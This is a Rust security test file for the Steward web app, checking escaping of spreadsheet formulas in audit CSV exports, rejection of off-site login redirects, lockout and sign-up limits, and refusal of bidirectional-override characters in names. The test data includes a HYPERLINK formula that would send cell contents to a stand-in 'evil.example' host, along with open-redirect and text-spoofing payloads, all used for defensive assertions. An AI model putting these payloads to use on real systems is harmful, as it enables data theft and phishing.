//! What an attacker and an auditor tried against Steward (issue 23): formulas smuggled
//! into exports, redirects after log-in that leave the site, lockouts that tell who is a
//! member and lock them out, sign-ups without a limit, invisible formatting in names.

use crate::harness::{Options, PASSWORD, SmtpServer, TestServer, client};
use reqwest::header::{CONTENT_TYPE, COOKIE, USER_AGENT};
use reqwest::{Method, StatusCode};
use serde_json::json;
use steward_app::clock::Clock;

/// Logs in with a chosen `User-Agent`, as a script would.
async fn log_in_as_agent(base: &str, slug: &str, email: &str, password: &str, agent: &str) -> StatusCode {
    let http = client();
    let form = http.get(format!("{base}/login")).send().await.unwrap();
    let cookies: Vec<String> = form
        .headers()
        .get_all(reqwest::header::SET_COOKIE)
        .iter()
        .filter_map(|v| v.to_str().ok())
        .map(|c| c.split(';').next().unwrap_or_default().to_string())
        .collect();
    let body = form.text().await.unwrap();
    let csrf = body.split("name=\"csrf\" value=\"").nth(1).and_then(|r| r.split('"').next()).unwrap_or_default();
    let fields = [("csrf", csrf), ("workspace", slug), ("email", email), ("password", password), ("next", "/app")];
    http.post(format!("{base}/login"))
        .header(COOKIE, cookies.join("; "))
        .header(USER_AGENT, agent)
        .header(CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(crate::harness::form_encode(&fields))
        .send()
        .await
        .unwrap()
        .status()
}

#[tokio::test]
async fn a_formula_sent_as_a_user_agent_comes_out_of_the_audit_csv_as_text() {
    // promise: SEC-3
    // promise: SEC-2
    let server = TestServer::start().await;
    let fixture = server.tenant("formula-co").await;
    let formula = "=HYPERLINK(\"http://evil.example/steal?\"&A2,\"Open\")";
    let refused = log_in_as_agent(&server.base, "formula-co", "owner@formula-co.example", "not the password", formula);
    assert_eq!(refused.await, StatusCode::UNAUTHORIZED);
    let csv = server.api(&fixture.owner_token).get("/api/v1/audit/export?format=csv").await;
    assert_eq!(csv.status, StatusCode::OK);
    assert!(csv.body.contains("'=HYPERLINK"), "the agent is kept, as text: {}", csv.body);
    for line in csv.body.lines() {
        assert!(!line.contains(",=") && !line.contains(",\"="), "a cell starts with a formula: {line}");
    }
}

#[tokio::test]
async fn the_language_switch_keeps_the_choice_and_never_leads_off_the_site() {
    // promise: SEC-2
    let server = TestServer::start().await;
    for (back, expected) in [
        ("/\t/evil.example/phish", "/"),
        ("//evil.example/phish", "/"),
        ("/\\evil.example", "/"),
        ("https://evil.example/", "/"),
        ("/b/some-salon", "/b/some-salon"),
    ] {
        let mut browser = server.browser();
        let page = browser.get(&format!("/language?to=hi&back={}", crate::harness::urlencode(back))).await;
        assert_eq!(page.status, StatusCode::SEE_OTHER, "{back:?}");
        assert_eq!(page.location(), Some(expected), "{back:?}");
        assert!(page.set_cookies().iter().any(|c| c.starts_with("steward_lang=hi;")), "{:?}", page.set_cookies());
    }
    let refused = server.browser().get("/language?to=xx").await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(refused.body.contains("must be one of: en, hi"), "{}", refused.body);
}

#[tokio::test]
async fn after_log_in_next_never_leads_off_the_site() {
    // promise: SEC-2
    let server = TestServer::start().await;
    server.tenant("next-co").await;
    for (next, expected) in [
        ("/\t/evil.example/phish", "/app"),
        ("//evil.example/phish", "/app"),
        ("/\\evil.example", "/app"),
        ("https://evil.example/", "/app"),
        ("/\r\n/evil.example", "/app"),
        ("/app/customers?q=a", "/app/customers?q=a"),
    ] {
        let mut browser = server.browser();
        let fields =
            [("workspace", "next-co"), ("email", "owner@next-co.example"), ("password", PASSWORD), ("next", next)];
        let page = browser.submit("/login", "/login", &fields).await;
        assert_eq!(page.status, StatusCode::SEE_OTHER, "{next:?}");
        assert_eq!(page.location(), Some(expected), "{next:?}");
        // Already signed in, the form redirects at once, through the same check.
        let again = browser.get(&format!("/login?next={}", crate::harness::urlencode(next))).await;
        assert_eq!(again.status, StatusCode::SEE_OTHER, "{next:?}");
        let to = again.location().unwrap_or_default();
        assert!(to.starts_with('/') && !to.starts_with("//") && !to.contains("evil.example"), "{next:?} -> {to}");
    }
}

#[tokio::test]
async fn a_locked_account_answers_like_an_unknown_one_and_lets_its_members_browser_in() {
    // promise: ACC-4
    let smtp = SmtpServer::start().await;
    let clock = Clock::fixed(1_800_000_000 * 1_000_000);
    let server = TestServer::start_with(Options {
        clock: Some(clock.clone()),
        smtp_url: smtp.as_ref().map(|s| s.url()),
        ..Default::default()
    })
    .await;
    server.tenant("lock-co").await;
    let email = "owner@lock-co.example";
    // The member's own browser signed in before and got its device cookie.
    let mut own = server.browser();
    assert_eq!(own.log_in("lock-co", email, PASSWORD).await.status, StatusCode::SEE_OTHER);
    assert!(own.cookies.contains_key("steward_device"), "{:?}", own.cookies);
    own.cookies.remove("steward_session");

    // Someone else guesses until the account locks for new browsers.
    let mut stranger = server.browser();
    for _ in 0..5 {
        assert_eq!(stranger.log_in("lock-co", email, "a wrong guess here").await.status, StatusCode::UNAUTHORIZED);
        clock.advance(5_000_000);
    }
    // From now on the right password from a new browser gets exactly what an unknown
    // address gets, in about the same time: a password is checked either way.
    let mut locked_times = Vec::new();
    let mut unknown_times = Vec::new();
    for _ in 0..3 {
        let started = std::time::Instant::now();
        let locked = stranger.log_in("lock-co", email, PASSWORD).await;
        locked_times.push(started.elapsed());
        clock.advance(5_000_000);
        let started = std::time::Instant::now();
        let unknown = stranger.log_in("lock-co", "nobody@lock-co.example", PASSWORD).await;
        unknown_times.push(started.elapsed());
        clock.advance(5_000_000);
        assert_eq!(locked.status, StatusCode::UNAUTHORIZED, "{}", locked.body);
        assert_eq!(unknown.status, locked.status);
        assert!(locked.headers.get("retry-after").is_none());
        let message =
            |body: &str| body.split("role=\"alert\"").nth(1).map(|r| r[..r.find("</").unwrap_or(0)].to_string());
        assert_eq!(message(&locked.body), message(&unknown.body));
    }
    locked_times.sort();
    unknown_times.sort();
    assert!(
        locked_times[1] * 3 >= unknown_times[1],
        "a locked account answers as slowly as an unknown one: {locked_times:?} vs {unknown_times:?}"
    );
    // The member's own browser still gets in.
    let mine = own.log_in("lock-co", email, PASSWORD).await;
    assert_eq!(mine.status, StatusCode::SEE_OTHER, "{}", mine.body);
    // And the member was told.
    if let Some(smtp) = smtp {
        let text = smtp.wait_for_text(email, "Wrong passwords were tried").await;
        assert!(text.contains("/forgot"), "{text}");
    }
}

#[tokio::test]
async fn sign_ups_from_one_address_are_limited() {
    // promise: ACC-4
    let server = TestServer::start().await;
    let mut browser = server.browser();
    let mut statuses = Vec::new();
    for n in 0..6 {
        let slug = format!("signup-burst-{n}");
        let email = format!("owner{n}@signup-burst.example");
        let fields = [
            ("business_name", "Burst Salon"),
            ("slug", slug.as_str()),
            ("country", "IN"),
            ("time_zone", "Asia/Kolkata"),
            ("name", "Generated Owner"),
            ("email", email.as_str()),
            ("password", PASSWORD),
            ("accept_policy", "yes"),
        ];
        browser.cookies.remove("steward_session");
        statuses.push(browser.submit("/signup", "/signup", &fields).await.status);
    }
    assert_eq!(&statuses[..5], &[StatusCode::SEE_OTHER; 5], "{statuses:?}");
    assert_eq!(statuses[5], StatusCode::TOO_MANY_REQUESTS, "{statuses:?}");
    assert!(steward_app::tenancy::find_by_slug(&server.app, "signup-burst-5").await.unwrap().is_none());
}

#[tokio::test]
async fn names_with_bidirectional_overrides_are_refused_naming_the_field() {
    // promise: CRM-1
    let server = TestServer::start().await;
    let fixture = server.tenant("bidi-co").await;
    let api = server.api(&fixture.owner_token);
    let spoof = api
        .call(
            Method::POST,
            "/api/v1/customers",
            Some(json!({ "name": "Asha \u{202E}moc.live", "phone": "98450 11111" })),
        )
        .await;
    assert_eq!(spoof.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", spoof.body);
    assert_eq!(spoof.json()["error"]["field"], "name");
    assert!(spoof.body.contains("U+202E"), "{}", spoof.body);
    let hindi = api
        .call(Method::POST, "/api/v1/customers", Some(json!({ "name": "क्\u{200D}षमा", "phone": "98450 11112" })))
        .await;
    assert_eq!(hindi.status, StatusCode::CREATED, "the zero-width joiner spells Hindi: {}", hindi.body);
}

#[tokio::test]
async fn files_in_the_data_folder_are_readable_by_steward_alone() {
    // promise: SEC-2
    if crate::harness::suite_on_postgres() {
        return;
    }
    let server = TestServer::start().await;
    server.tenant("modes-co").await;
    let file = server.raw_url.trim_start_matches("sqlite://").to_string();
    let folder = std::path::Path::new(&file).parent().unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
            assert_eq!(mode & 0o077, 0, "{} is mode {mode:o}", path.display());
        }
    }
}
